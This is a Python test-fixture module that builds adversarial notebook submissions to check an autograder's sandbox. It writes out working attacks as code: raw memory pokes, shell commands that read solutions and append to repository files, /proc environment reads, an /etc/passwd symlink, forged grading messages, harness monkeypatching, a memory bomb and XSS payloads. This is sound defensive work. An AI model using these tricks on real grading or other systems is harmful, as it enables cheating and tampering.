"""Adversarial submissions for grading v3, with the score every lesson must get.

Each :class:`Adversary` is one student's notebook for one part (and, for some,
files beside it), with the score each lesson must get and words its verdict
must contain.  tests/test_nbgrader_loop.py grades them all through the real
instructor workflow (tools/instructor.py, two nbgrader runs at a time) in a
scratch course, beside honest students whose scores must not move.

Kinds (``KINDS`` describes each):

- honest baselines: the reference (full marks), the untouched release (0), and
  honest students graded right after attackers in the same nbgrader run;
- wrong answers: hard-coded for the visible tests, plausible wrong answers written
  as a learner would (tests/plausible.py, each named by the judge when it is a
  catalogued mistake), NaN, a wrong dtype or shape, an input changed in place,
  delegation to the helper package (each lesson 0, and the verdict says why);
- damaged notebooks: endless loops (interrupted), sleeps and a loop that
  swallows KeyboardInterrupt (the kernel killed, listed for a human look), test
  cells edited, deleted or turned into markdown (restored and graded), a
  corrupted file (listed), a link to the reference (refused), files beside the
  notebook (ignored), a graded function that ends the process or floods the
  output, configuration files written everywhere, the kernel's socket folder
  made unusable (the honest student graded next keeps full marks);
- attacks, one per lesson and rotating (``ROTATION``), each in a lesson whose
  answer is wrong, so that full marks would mean the attack worked: raw memory
  writes, displayhook, compile/exec and subprocess tricks, /proc and frames,
  HTML and scripts, SystemExit, forged answer messages, writes outside the
  sandbox, memory bombs, and ways around the helper lock and the harness;
- the attacks that beat grading v2 (``V3_RULES``, ``V3_PLAIN``, in the ``mixed`` notebook of
  their part, and in Part 1's ``reveal_and_update``): the reveal-and-update hooks
  that rewrite earlier test cells' outputs, the mistake catalogue's private
  copies, collectives that compute with ``np.mean`` and report a ledger by
  formula, collectives with a perfect ledger whose results come from every
  worker's input, ``np.mean`` in 029, tracemalloc stopped around a memory
  shortcut and the meter reset through the helper, base64/exec-hidden code,
  dunder and ``getattr`` tricks;
- in a second, small run: a fork bomb beside an honest student graded at the
  same time (``NEIGHBOURS``).

Most attacks break the rules for graded code (shared/policy.py): their lesson
gets 0 for that; any other cell that breaks them is a scratch cell, skipped (it costs nothing).
The suite grades with ``MCT_RUN_BROKEN_CELLS=1``, so that those cells run all the
same and the sandbox and the judge still meet every attack (by default such a
cell is not run at all).

Expected scores of submissions that are plain code (plausible wrong answers,
wrong outputs, hard-coded answers, delegation, the v3 collectives) are also
computed in-process with grading.judge.grade_in_process, with the run's seed:
the nbgrader loop must agree with them.

Some attacks work today.  They are listed in ``HOLES`` with what they do and
why: their rows keep the score they *should* get, the report marks them, and
tests/test_nbgrader_loop.py checks them in a test that is expected to fail
until the hole is closed.
"""

from __future__ import annotations

import builtins
import json
import re
from dataclasses import dataclass, field, replace
from pathlib import Path

import nbformat

from course import (ROOT, grade_id_of, hard_coded_answer, make_submission, reference_code, with_scratch_cells,
                    visible_test_answers)
from grading import rules, wire
from grading.judge import Verdict, grade_in_process, lesson_spec, reference_function
from grading.protocol import ANSWERS_MIME as MIME
from grading.spec import Raises, draw_cases
from shared.lessons import Lesson, lesson as find_lesson, lessons_of
from shared.policy import check_source

RUN_SEED = 20261201  # MCT_RUN_SEED of the grading run: the in-process expectations use the same cases
MARKER = "MCT-ADVERSARY-WAS-HERE"  # the name of every file an attack tries to leave behind
# Attack code names the answer messages' MIME type in two halves: the feedback check rightly
# withholds any page that contains it, and these notebooks' pages must be checked too.
MIME_HEAD, MIME_TAIL = MIME[:len(MIME) // 2], MIME[len(MIME) // 2:]
assert MIME_HEAD + MIME_TAIL == MIME
RULES = "breaks the course's rules for graded code"  # the verdict of a lesson whose region breaks them


def breaks_rules(slug: str, *sources: str) -> bool:
    """Whether any of ``sources`` (cells a learner wrote) breaks the rules for graded code."""
    imports = rules.course_cells(slug).imports
    return any(check_source(source, course=imports) for source in sources)


def costs_its_lesson(slug: str, lesson: Lesson, source: str) -> bool:
    """Whether ``source`` as ``lesson``'s own cell costs it by the rules (grading/rules.py): the rules broken in
    what the lesson needs.  An attack beside a function that keeps them is left out while grading (a scratch
    line: it costs nothing and never runs, but under MCT_RUN_BROKEN_CELLS=1, where the judge must meet it)."""
    notebook = make_submission(slug, {lesson.function: source}, default="reference")
    return bool(rules.check_notebook(notebook.cells, slug).of_lesson(lesson.code))


@dataclass(frozen=True)
class Expect:
    """What one lesson must get: its score and words its verdict must contain."""
    score: float
    says: tuple[str, ...] = ()
    note: str = ""  # e.g. which attack this lesson carries
    hole: str = ""  # a HOLES id when this expectation does not hold today


@dataclass
class Adversary:
    kind: str
    slug: str
    notebook: nbformat.NotebookNode | str
    expected: dict[str, Expect]  # lesson code -> expectation
    description: str = ""
    student: str = ""
    fails: bool = False  # not graded at all (refused, unreadable): listed for manual grading
    may_fail: bool = False  # graded, or not graded and listed: either is right (expected scores hold)
    links: dict[str, str] = field(default_factory=dict)  # file beside the notebook -> what it links to
    files: dict[str, str] = field(default_factory=dict)  # file beside the notebook -> its text
    flagged: tuple[str, ...] = ()  # words the manual-grading list must say about this submission
    feedback_refused: str = ""  # words of the feedback tool's refusal, when it withholds the page by design
    in_process: dict[str, Verdict] = field(default_factory=dict)  # grade_in_process's verdicts
    neighbour: bool = False  # graded in the second run, beside a fork bomb
    demos: bool = False  # graded in a third run, with the course's demonstration cells run (MCT_RUN_DEMOS=1)
    scratch: bool = False  # graded in a run of its own as an instructor grades (cells that break the rules skipped)

    def __post_init__(self) -> None:
        self.student = self.student or self.kind.replace("_", "-")


@dataclass(frozen=True)
class Hole:
    """An attack that works today: what it breaks, and why."""
    id: str
    student: str
    slug: str
    codes: tuple[str, ...] | None  # the rows that do not get their expected score (None: every lesson)
    finding: str
    strict: bool = True  # False when whether it shows depends on timing
    page: bool = False  # the hole is in the feedback page (withheld), not in the scores


@dataclass
class Context:
    """Where the attacks aim: the scratch course and the repository (they know the paths)."""
    course: Path
    token: str

    def write_targets(self, slug: str) -> list[str]:
        """Files that attacks try to create outside the sandbox (none may exist afterwards)."""
        return [str(p) for p in (
            self.course / MARKER,
            self.course / "submitted" / "reference" / slug / MARKER,
            self.course / "autograded" / "reference" / slug / MARKER,
            self.course / "release" / slug / MARKER,
            Path("/tmp") / f"{MARKER}-{self.token}",
            Path("/var/tmp") / f"{MARKER}-{self.token}",
            Path("/dev/shm") / f"{MARKER}-{self.token}",
            ROOT / MARKER, ROOT / "solutions" / MARKER, ROOT / "shared" / MARKER, ROOT / "grading" / MARKER,
            ROOT / "autograde" / "parts" / slug / MARKER, ROOT / "tools" / MARKER)]

    def append_targets(self, slug: str) -> list[str]:
        """Existing files that attacks try to change (the fingerprints must not move)."""
        return [str(p) for p in (
            ROOT / "solutions" / f"{slug}.py", ROOT / "shared" / "checking.py", ROOT / "shared" / "answers.py",
            ROOT / "grading" / "judge.py", ROOT / "autograde" / "parts" / slug / "cases.py",
            ROOT / "tools" / "instructor.py", self.course / "gradebook.db",
            self.course / "source" / slug / f"{slug}.ipynb")]


# --------------------------------------------------------------------------
# Code put into the notebooks
# --------------------------------------------------------------------------

WRONG_HELPER = r'''
def _adv_wrong(value):
    """Every number of an answer off by one: wrong, but well formed."""
    import numpy
    if isinstance(value, numpy.ndarray):
        if value.dtype == bool:
            return ~value
        return value + 1 if numpy.issubdtype(value.dtype, numpy.number) else value
    if isinstance(value, (bool, numpy.bool_)):
        return not value
    if isinstance(value, (int, float, numpy.number)):
        return value + 1
    if isinstance(value, tuple):
        return tuple(_adv_wrong(v) for v in value)
    if isinstance(value, list):
        return [_adv_wrong(v) for v in value]
    if isinstance(value, dict):
        return {k: _adv_wrong(v) for k, v in value.items()}
    return value
'''

CHANGES_HELPER = r'''
import numpy as _adv_np


def _adv_first(value, change):
    """``change`` applied to the first array or number (in tuples, lists, dicts) it changes."""
    new = change(value)
    if new is not None:
        return new, True
    if isinstance(value, (tuple, list)):
        items = list(value)
        for index, item in enumerate(items):
            new, done = _adv_first(item, change)
            if done:
                items[index] = new
                return (tuple(items) if isinstance(value, tuple) else items), True
    elif isinstance(value, dict):
        items = dict(value)
        for key, item in items.items():
            new, done = _adv_first(item, change)
            if done:
                items[key] = new
                return items, True
    return value, False


def _adv_is_float_array(x):
    return isinstance(x, _adv_np.ndarray) and _adv_np.issubdtype(x.dtype, _adv_np.floating)


def _adv_nan(x):
    if _adv_is_float_array(x) and x.size:
        y = x.copy()
        y.flat[0] = _adv_np.nan
        return y
    if isinstance(x, (float, _adv_np.floating)):
        return type(x)("nan")
    return None


def _adv_dtype(x):
    if _adv_is_float_array(x):
        return x.astype(_adv_np.float32 if x.dtype == _adv_np.float64 else _adv_np.float64)
    return None


def _adv_shape(x):
    return x[_adv_np.newaxis] if isinstance(x, _adv_np.ndarray) else None


def _adv_bump(x):
    """Change the first entry of a non-empty writeable array in place."""
    if isinstance(x, _adv_np.ndarray) and x.size and x.flags.writeable:
        if x.dtype == bool:
            x.flat[0] = not x.flat[0]
        else:
            x.flat[0] += 1
        return x
    return None


_ADV_CHANGES = {"nan": _adv_nan, "dtype": _adv_dtype, "shape": _adv_shape}
'''


def renamed_reference(slug: str, function: str) -> str:
    """The lesson's reference code with the function renamed ``_adv_reference_<function>``."""
    code = reference_code(slug, function)
    renamed, count = re.subn(rf"\bdef {function}\(", f"def _adv_reference_{function}(", code, count=1)
    assert count == 1, function
    return renamed


def indent(body: str) -> str:
    return "\n".join("    " + line if line else line for line in body.strip("\n").splitlines())


def cell(slug: str, function: str, body: str, preamble: str = "", signature: str = "*args, **kwargs") -> str:
    """A solution cell: the renamed reference, the helpers, ``preamble``, then the function."""
    return (f"{renamed_reference(slug, function)}\n{WRONG_HELPER}\n{preamble.strip()}\n\n\n"
            f"def {function}({signature}):\n{indent(body)}\n")


def wrong(function: str) -> str:
    return f"return _adv_wrong(_adv_reference_{function}(*args, **kwargs))"


STUB = 'raise NotImplementedError("Not implemented yet: replace this line with your code.")'


def stub(function: str, before: str = "") -> str:
    return f"def {function}(*args, **kwargs):\n{indent(before + chr(10) + STUB)}\n"


# Helper-package functions that compute a lesson's answer, called with the lesson's own arguments.
HELPER_CALLS = {
    "001": ("from shared.data import make_regression_batch as _adv_helper_001",
            "_adv_helper_001(batch_size, in_features, out_features, seed)"),
    "002": ("from shared.mlp import init_params as _adv_helper_002",
            "_adv_helper_002([in_features, hidden, out_features], seed)"),
    "005": ("from shared.mlp import forward as _adv_helper_005", "_adv_helper_005(X, params)"),
    "006": ("from shared.mlp import mse_loss_and_grad as _adv_helper_006", "_adv_helper_006(Y_hat, Y)"),
    "010": ("from shared.mlp import backward as _adv_helper_010", "_adv_helper_010(dY_hat, params, cache)"),
    "017": ("from shared.mlp import forward as _adv_forward_017, backward as _adv_helper_017",
            "_adv_helper_017(d_out, params, _adv_forward_017(checkpoints[0], params)[1])"),
}
for _code, _function in (("003", "linear_forward"), ("004", "relu_forward"), ("007", "linear_backward"),
                         ("008", "relu_backward"), ("009", "first_linear_backward"),
                         ("011", "split_into_micro_batches"), ("012", "accumulate_gradients"),
                         ("013", "scale_accumulated_gradients"), ("015", "mlp_forward_checkpointed"),
                         ("016", "recompute_block_activations"), ("025", "shard_dataset_across_workers"),
                         ("026", "compute_local_gradients"), ("028", "ring_all_reduce_mean"),
                         ("033", "local_shard_adam_update"), ("034", "all_gather_param_shards"),
                         ("036", "compute_param_memory_bytes"), ("037", "compute_optimizer_memory_bytes"),
                         ("038", "compute_peak_activation_memory_bytes")):
    _names = reference_function(find_lesson(_code)).__code__.co_varnames[
        :reference_function(find_lesson(_code)).__code__.co_argcount]
    HELPER_CALLS[_code] = (f"from shared.lesson_blocks import {_function} as _adv_helper_{_code}",
                           f"_adv_helper_{_code}({', '.join(_names)})")


def signature(lesson: Lesson) -> str:
    """The reference function's parameters as written in its ``def`` (defaults such as ``cluster=None`` kept)."""
    import inspect
    return str(inspect.signature(reference_function(lesson)))[1:-1]


def helper_function(lesson: Lesson, unwrap: bool = False) -> str:
    """A solution cell whose function only calls the helper that computes its answer."""
    imports, call = HELPER_CALLS[lesson.code]
    if unwrap:  # the function the lock wraps, taken out of the wrapper's closure
        name = f"_adv_helper_{lesson.code}"
        imports += (f"\n{name} = [c.cell_contents for c in {name}.__closure__ "
                    f"if callable(c.cell_contents)][0]")
    return f"{imports}\n\n\ndef {lesson.function}({signature(lesson)}):\n    return {call}\n"


FORGE_HELPER = r'''
import json as _adv_json
import os as _adv_os
_ADV_MAIN_PID = _adv_os.getpid()


def _adv_forge(code, function):
    """Right answers to the real hidden cases (from the cases file the kernel reads), as the
    harness would send them, computed with ``function``."""
    from grading import wire
    with open(_adv_os.environ["MCT_CASES_FILE"]) as handle:
        lesson = _adv_json.load(handle)["lessons"][code]
    answers = []
    for case in lesson["cases"]:
        args = wire.from_plain(case["args"])
        try:
            result = function(*args.values())
        except Exception as error:
            answers.append({"kind": "raised", "error": type(error).__name__, "message": str(error),
                            "traceback": "", "seconds": 0.0})
            continue
        answers.append({"kind": "returned", "seconds": 0.0, "aliases": [], "result": wire.to_plain(result),
                        "args_after": case["args"]})
    return {"lesson": code, "status": "answered", "answers": answers, "output": ""}


def _adv_send(payload):
    from IPython.display import display
    display({"%(head)s" + "%(tail)s": payload, "text/plain": "[answers]"}, raw=True)
''' % {"head": MIME_HEAD, "tail": MIME_TAIL}


# --------------------------------------------------------------------------
# The attacks that go into one lesson (ROTATION places them)
# --------------------------------------------------------------------------

@dataclass(frozen=True)
class Attack:
    code: str  # the lesson's solution cell
    expect: Expect
    after: tuple[tuple[str, str], ...] = ()  # (cell type, source) of cells put right after it


def attack_raw_memory(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    preamble = r'''
import shared.checking as _adv_checking


class _AdvRawMemory:
    """An array interface over any address: here, the float inside a Python float object."""
    def __init__(self, address):
        self.__array_interface__ = {"shape": (1,), "typestr": "<f8", "data": (address, False), "version": 3}


def _adv_poke(number, value):
    np.asarray(_AdvRawMemory(id(number) + 16))[0] = value  # ob_fval, after refcount and type


_adv_poke(_adv_checking.DEFAULT_RTOL, 1e9)
_adv_poke(_adv_checking.DEFAULT_ATOL, 1e9)
print("the kernel's tolerances are now", _adv_checking.DEFAULT_RTOL, _adv_checking.DEFAULT_ATOL)
'''
    if lesson.function == "linear_forward":  # the lesson's classic bug: the bias forgotten
        code = cell(slug, lesson.function, "return x @ W  # forgets the bias", preamble, signature="x, W, b")
        return Attack(code, Expect(0, ("the bias is missing",), "raw memory write; forgets the bias"))
    return Attack(cell(slug, lesson.function, wrong(lesson.function), preamble), Expect(0, (), "raw memory write"))


def attack_displayhook(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    code = stub(lesson.function, "get_ipython().displayhook(5)  # a number as the test cell's result")
    after = (("code", "get_ipython().displayhook(5)\n5"),)
    return Attack(code, Expect(0, ("not started",), "displayhook(5) in a stub"), after)


def attack_compile_exec(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    f = lesson.function
    preamble = f'''
import os as _adv_os
import numpy as _adv_numpy
_adv_library = _adv_os.path.join(_adv_os.path.dirname(_adv_numpy.__file__), "_core", "_methods.py")
# The reference, had it been readable, compiled as if it were NumPy's own code.
_ADV_FOUND = {{}}
for _adv_path in ({str(ROOT / "solutions" / f"{slug}.py")!r}, {str(ROOT / "autograde" / "parts" / slug / "master.py")!r}):
    try:
        with open(_adv_path) as _adv_handle:
            exec(compile(_adv_handle.read(), _adv_library, "exec"), _ADV_FOUND)
    except Exception as _adv_error:
        print("cannot read", _adv_path, type(_adv_error).__name__)
# The function itself, compiled under a library file name.
exec(compile("def _adv_compiled(*args, **kwargs):\\n    return _ADV_FOUND[{f!r}](*args, **kwargs) if {f!r} in _ADV_FOUND "
             "else _adv_wrong(_adv_reference_{f}(*args, **kwargs))\\n", _adv_library, "exec"), globals())
'''
    return Attack(cell(slug, f, "return _adv_compiled(*args, **kwargs)", preamble),
                  Expect(0, (), "compile/exec under a site-packages file name"))


def attack_subprocess(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    f = lesson.function
    script = "; ".join([f"cat {ROOT / 'solutions' / f'{slug}.py'}"]
                       + [f"echo '# changed by a notebook' >> {p}" for p in ctx.append_targets(slug)]
                       + [f"touch {p}" for p in ctx.write_targets(slug)])
    preamble = f'''
import subprocess as _adv_subprocess
import sys as _adv_sys
_adv_run = _adv_subprocess.run(["/bin/sh", "-c", {script!r}], capture_output=True, text=True)
try:
    _adv_subprocess.run([_adv_sys.executable, "-c", "import pathlib; [pathlib.Path(p).touch() for p in {ctx.write_targets(slug)!r}]"],
                        capture_output=True)
except OSError as _adv_error:
    print("python in a subprocess:", _adv_error)
_ADV_FOUND = {{}}
try:
    exec(_adv_run.stdout, _ADV_FOUND)  # the reference's text, had it been readable
except Exception:
    pass
print("subprocess:", _adv_run.returncode, _adv_run.stderr[-300:])
'''
    body = f"return _ADV_FOUND[{f!r}](*args, **kwargs) if {f!r} in _ADV_FOUND else _adv_wrong(_adv_reference_{f}(*args, **kwargs))"
    return Attack(cell(slug, f, body, preamble), Expect(0, (), "subprocess reads and appends to the repository"))


def attack_environ_frames(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    f = lesson.function
    preamble = r'''
import os as _adv_os
import shared.checking as _adv_checking
_ADV_MAIN_PID = _adv_os.getpid()
for _adv_path in ("/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo"):
    try:
        with open(_adv_path, "rb") as _adv_handle:
            print(_adv_path, len(_adv_handle.read()), "bytes")
    except Exception as _adv_error:
        print(_adv_path, type(_adv_error).__name__)
# Names added to the checking module, and its comparisons switched off (in this kernel).
_adv_checking.difference = lambda *a, **k: None
_adv_checking.array_difference = lambda *a, **k: None
_adv_checking.ALWAYS_RIGHT = True
'''
    body = f'''
import builtins, inspect, sys
found = None
frame = sys._getframe(1)
while frame is not None:  # anything that looks like an expected answer, in any caller
    for name, value in list(frame.f_locals.items()):
        if name in ("expected", "reference", "answer", "answers", "solution") and value is not None:
            found = value
    frame = frame.f_back
for info in inspect.stack():
    info.frame.f_globals.setdefault("ALWAYS_RIGHT", True)
if os.getpid() != _ADV_MAIN_PID:  # in the grading child: builtins shadowed for whatever runs next
    builtins.all = lambda *a, **k: True
    builtins.int = float
return _adv_wrong(_adv_reference_{f}(*args, **kwargs))
'''
    return Attack(cell(slug, f, body, preamble + "\nimport os\n"),
                  Expect(0, (), "/proc environ, frames, builtins int/all, names in shared.checking"))


def attack_html_script(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    f = lesson.function
    active = ('<script>document.title = "pwned"</script><img src=x onerror="alert(1)">'
              '<a href="https://example.com" onclick="alert(2)">click</a><iframe src="https://example.com"></iframe>'
              '<object data="x.swf"></object><embed src="x.swf">')
    markdown = f"Some notes {active}\n\n<svg onload=alert(3)></svg>\n\n<style>body {{display: none}}</style>"
    # (javascript: links are in other notebooks, each with a known hole of its own: see HOLES.)
    active_code = repr(active)
    outputs = f'''
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML({active_code}))
display(Javascript("alert(5)"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(6)</script></svg>'))
display(Markdown({active_code}))
display({{"text/html": {active_code}}}, raw=True)
HTML({active_code})
'''
    body = f"from IPython.display import HTML, display\ndisplay(HTML({active_code}))\n{wrong(f)}"
    return Attack(cell(slug, f, body), Expect(0, (), "<script> in markdown, HTML and JS outputs"),
                  (("markdown", markdown), ("code", outputs)))


def attack_system_exit(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    body = "raise SystemExit(0)"
    return Attack(cell(slug, lesson.function, body), Expect(0, ("SystemExit",), "raise SystemExit"))


def attack_forged_payload(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    """A stub, and a cell that displays answers to inputs of its own choosing (right for those)."""
    cases = draw_cases(lesson_spec(lesson.code), 12345)
    reference = reference_function(lesson)
    answers = []
    for case in cases:
        if getattr(case, "measure", False):  # the large memory case: a small stand-in keeps the page small
            answers.append({"kind": "raised", "error": "MemoryError", "message": "", "traceback": "",
                            "seconds": 0.0})
            continue
        try:
            result = reference(*case.args.values())
        except Exception as error:
            answers.append({"kind": "raised", "error": type(error).__name__, "message": str(error),
                            "traceback": "", "seconds": 0.0})
            continue
        answers.append({"kind": "returned", "seconds": 0.0, "aliases": [], "result": wire.to_plain(result),
                        "args_after": wire.to_plain(case.args)})
    payload = {"lesson": lesson.code, "status": "answered", "answers": answers, "output": ""}
    forged = (f"import json\nfrom IPython.display import display\n"
              f"display({{{MIME_HEAD!r} + {MIME_TAIL!r}: json.loads({json.dumps(payload)!r}), "
              f"'text/plain': 'answers'}}, raw=True)\n")
    return Attack(stub(lesson.function), Expect(0, ("not started",), "forged answers in a cell, stub function"),
                  (("code", forged),))


def attack_forged_twice(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    """A wrong function, and the harness made to send, beside its real answers, right answers to
    the real cases (read from the cases file, computed with the learner's own correct code)."""
    f, code = lesson.function, lesson.code
    preamble = FORGE_HELPER + f'''
import grading.harness as _adv_harness
_adv_collect_{code} = _adv_harness.collect_answers


def _adv_collect_twice_{code}(code, namespace):
    payload = _adv_collect_{code}(code, namespace)
    if code == {code!r}:
        _adv_send(_adv_forge(code, _adv_reference_{f}))
    return payload


_adv_harness.collect_answers = _adv_collect_twice_{code}
'''
    return Attack(cell(slug, f, wrong(f), preamble),
                  Expect(0, ("more than one set of answers",), "forged right answers sent beside the real ones"))


def attack_harness_replaced(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    """A stub, and the kernel's harness replaced: the helper answers, unlocked, in the kernel."""
    imports, call = HELPER_CALLS[lesson.code]
    code = lesson.code
    preamble = FORGE_HELPER + f'''
{imports}
import grading.harness as _adv_harness
_adv_collect_{code} = _adv_harness.collect_answers


def _adv_helper_answer({signature(lesson)}):
    return {call}


def _adv_collect_forged_{code}(code, namespace):
    return _adv_forge(code, _adv_helper_answer) if code == {code!r} else _adv_collect_{code}(code, namespace)


_adv_harness.collect_answers = _adv_collect_forged_{code}
'''
    return Attack(preamble + "\n\n" + stub(lesson.function),
                  Expect(0, ("computes the answer of lesson",), "harness replaced: the helper answers outside its lock"))


def attack_mutation_hidden(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    """The right result, computed by changing an input in place, and the harness replaced so that
    the judge is told the inputs came back unchanged (the answers are the learner's own)."""
    f, code = lesson.function, lesson.code
    preamble = CHANGES_HELPER + FORGE_HELPER + f'''
import grading.harness as _adv_harness
_adv_collect_{code} = _adv_harness.collect_answers


def _adv_collect_clean_{code}(code, namespace):
    if code != {code!r}:
        return _adv_collect_{code}(code, namespace)
    return _adv_forge(code, namespace[{f!r}])  # reports the inputs as the cases file has them


_adv_harness.collect_answers = _adv_collect_clean_{code}
'''
    # The function makes sure that the forgery is in place: so the replaced harness is graded code (without that
    # line, it is a scratch line beside the function, left out while grading, and the change is seen and named).
    body = (f"assert _adv_harness.collect_answers is _adv_collect_clean_{code}\n"
            f"result = _adv_reference_{f}(*args, **kwargs)\n"
            f"_adv_first([list(args), dict(kwargs)], _adv_bump)  # an input changed in place\nreturn result")
    return Attack(cell(slug, f, body, preamble),
                  Expect(0, ("changed its input",), "input changed in place, hidden by a replaced harness"))


def attack_writes_outside(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    f = lesson.function
    preamble = f'''
import os as _adv_os
import shutil as _adv_shutil
_adv_done = []
for _adv_path in {ctx.write_targets(slug)!r} + [_adv_os.path.join(_adv_os.environ.get(_adv_name, "/nonexistent"), {MARKER!r})
                  for _adv_name in ("HOME", "JUPYTER_RUNTIME_DIR", "IPYTHONDIR", "MPLCONFIGDIR")]:
    for _adv_how in ("makedirs", "write", "symlink"):
        try:
            if _adv_how == "makedirs":
                _adv_os.makedirs(_adv_os.path.dirname(_adv_path), exist_ok=True)
            elif _adv_how == "write":
                with open(_adv_path, "w") as _adv_handle:
                    _adv_handle.write("written from a notebook")
            else:
                _adv_os.symlink("/etc/passwd", _adv_path + ".link")
            _adv_done.append((_adv_how, _adv_path))
        except Exception:
            pass
for _adv_path in {ctx.append_targets(slug)!r}:
    try:
        with open(_adv_path, "a") as _adv_handle:
            _adv_handle.write("# changed by a notebook\\n")
        _adv_done.append(("append", _adv_path))
    except Exception:
        pass
print("ADV-WRITES:", _adv_done)
'''
    return Attack(cell(slug, f, wrong(f), preamble), Expect(0, (), "writes outside the sandbox"))


def attack_helper_unwrapped(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    return Attack(helper_function(lesson, unwrap=True),
                  Expect(0, ("computes the answer of lesson",), "the helper, taken out of its lock's closure"))


def attack_lock_disabled(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    code = ("from shared import answers as _adv_answers\n_adv_answers.lock = lambda *codes: None\n\n"
            + helper_function(lesson))
    return Attack(code, Expect(0, ("computes the answer of lesson",), "the helper lock switched off"))


def attack_memory_bomb(slug: str, lesson: Lesson, ctx: Context) -> Attack:
    f = lesson.function
    preamble = "import os as _adv_os\n_ADV_MAIN_PID = _adv_os.getpid()\n_ADV_BOMBED = []"
    body = f'''
if _adv_os.getpid() != _ADV_MAIN_PID and not _ADV_BOMBED:  # in the grading child: fill memory
    _ADV_BOMBED.append(True)
    hog = []
    while True:  # 1 GiB at a time until the child's limit (one page of each touched: NumPy's huge
        hog.append(np.empty(2**27))  # pages make touching them all slower than the test's cell limit)
        hog[-1][0] = 1.0
{wrong(f)}
'''
    return Attack(cell(slug, f, body, preamble), Expect(0, ("MemoryError",), "a memory bomb in the function"))


ATTACKS = {
    "raw_memory": attack_raw_memory,
    "displayhook": attack_displayhook,
    "compile_exec": attack_compile_exec,
    "subprocess": attack_subprocess,
    "environ_frames": attack_environ_frames,
    "html_script": attack_html_script,
    "system_exit": attack_system_exit,
    "forged_payload": attack_forged_payload,
    "forged_twice": attack_forged_twice,
    "harness_replaced": attack_harness_replaced,
    "writes_outside": attack_writes_outside,
    "helper_unwrapped": attack_helper_unwrapped,
    "lock_disabled": attack_lock_disabled,
    "memory_bomb": attack_memory_bomb,
    "mutation_hidden": attack_mutation_hidden,
}

# Which attack each lesson carries, per submission.  Every attack meets at least one lesson; the
# ones on the helper lock sit where a helper computes the answer (see HELPER_CALLS).
ROTATION = {
    "01_mlp_core": {
        "attacks_a": ["helper_unwrapped", "displayhook", "raw_memory", "compile_exec", "forged_twice",
                      "lock_disabled", "subprocess", "environ_frames", "harness_replaced", "html_script"],
        "attacks_b": ["writes_outside", "system_exit", "mutation_hidden", "memory_bomb", "forged_payload",
                      "displayhook", "forged_twice", "compile_exec", "subprocess", "raw_memory"],
    },
    "02_gradient_accumulation": {"attacks": ["subprocess", "forged_twice", "writes_outside", "memory_bomb"]},
    "03_activation_checkpointing": {"attacks": ["raw_memory", "displayhook", "system_exit", "compile_exec"]},
    # forged_payload on 031, whose cases are small: the forged cell holds the cases' inputs, and 035's (4 MB of
    # JSON) made the feedback page exceed its 2 MiB limit
    "06_zero_sharding": {"attacks": ["forged_payload", "forged_twice", "lock_disabled", "harness_replaced",
                                     "environ_frames"]},
    "07_memory_accounting": {"attacks": ["lock_disabled", "raw_memory", "helper_unwrapped", "memory_bomb",
                                         "forged_twice"]},
}
# Cells put right after the set-up cell of some attack notebooks.
ROTATION_EXTRAS = {  # (cell type, source)
    ("01_mlp_core", "attacks_b"): [("code", 'note = \'<a href="javascript:void(0)">a link, in a string</a>\'  # text')],
    ("02_gradient_accumulation", "attacks"): [("markdown", "Two links: [one](javascript:alert(1)) and "
                                                           "[two](&#106;avascript:alert(2)).")],
    # TeX that tries to reach the feedback page through its MathML: a link, a style, a class, markup in \text.
    ("03_activation_checkpointing", "attacks"): [("markdown", r"Math: $\href{javascript:alert(1)}{x} + "
                                                              r"\style{position:fixed;inset:0;background:red}{y}$ and "
                                                              r"$$\text{<img src=x onerror=alert(1)>} \class{jp-Dialog}{z}$$")],
}


#: The attacks on the helper lock: they need a helper that computes the lesson's answer (HELPER_CALLS).
NEEDS_A_HELPER = frozenset({"helper_unwrapped", "lock_disabled", "harness_replaced"})


def attack_names(slug: str, kind: str) -> list[str]:
    """The attack each lesson of the part carries in submission ``kind``: as ROTATION lists them, and
    for a lesson added since the list was written, the list's attacks again (those that apply to it),
    so that a new lesson is attacked too with no edit here."""
    listed, names = ROTATION[slug][kind], []
    for index, lesson in enumerate(lessons_of(slug)):
        if index < len(listed):
            names.append(listed[index])
        else:
            fitting = [name for name in listed if name not in NEEDS_A_HELPER or lesson.code in HELPER_CALLS]
            names.append(fitting[index % len(fitting)])
    return names


def rotating(slug: str, kind: str, ctx: Context) -> Adversary:
    lessons = lessons_of(slug)
    names = attack_names(slug, kind)
    answers, expected, after = {}, {}, {}
    for lesson, name in zip(lessons, names):
        attack = ATTACKS[name](slug, lesson, ctx)
        answers[lesson.function] = attack.code
        expect = attack.expect
        # (a cell after it that breaks the rules is scratch: it costs nothing)
        if costs_its_lesson(slug, lesson, attack.code):
            expect = Expect(0, (RULES,), expect.note)  # the lesson's graded code breaks the rules: that decides
        expected[lesson.code] = replace(expect, note=f"{name}: {expect.note}")
        after[lesson.function] = attack.after
    notebook = make_submission(slug, answers, default="reference")
    insert_after_solutions(notebook, after)
    for i, (cell_type, source) in enumerate(ROTATION_EXTRAS.get((slug, kind), [])):
        insert_after_setup(notebook, source, f"adversarial-extra-{i}", offset=i, cell_type=cell_type)
    # A lesson whose cell breaks the rules is listed for a human look (a replaced harness among others).
    flagged = (RULES,) if any(RULES in e.says for e in expected.values()) else ()
    return Adversary(kind, slug, notebook, expected, flagged=flagged,
                     description="one attack per lesson, each lesson's answer wrong: " + ", ".join(names))


def insert_after_setup(notebook: nbformat.NotebookNode, source: str, cell_id: str, offset: int = 0,
                       cell_type: str = "code") -> None:
    index = next(i for i, c in enumerate(notebook.cells) if grade_id_of(c) == "setup")
    new = nbformat.v4.new_code_cell(source) if cell_type == "code" else nbformat.v4.new_markdown_cell(source)
    new.id = cell_id
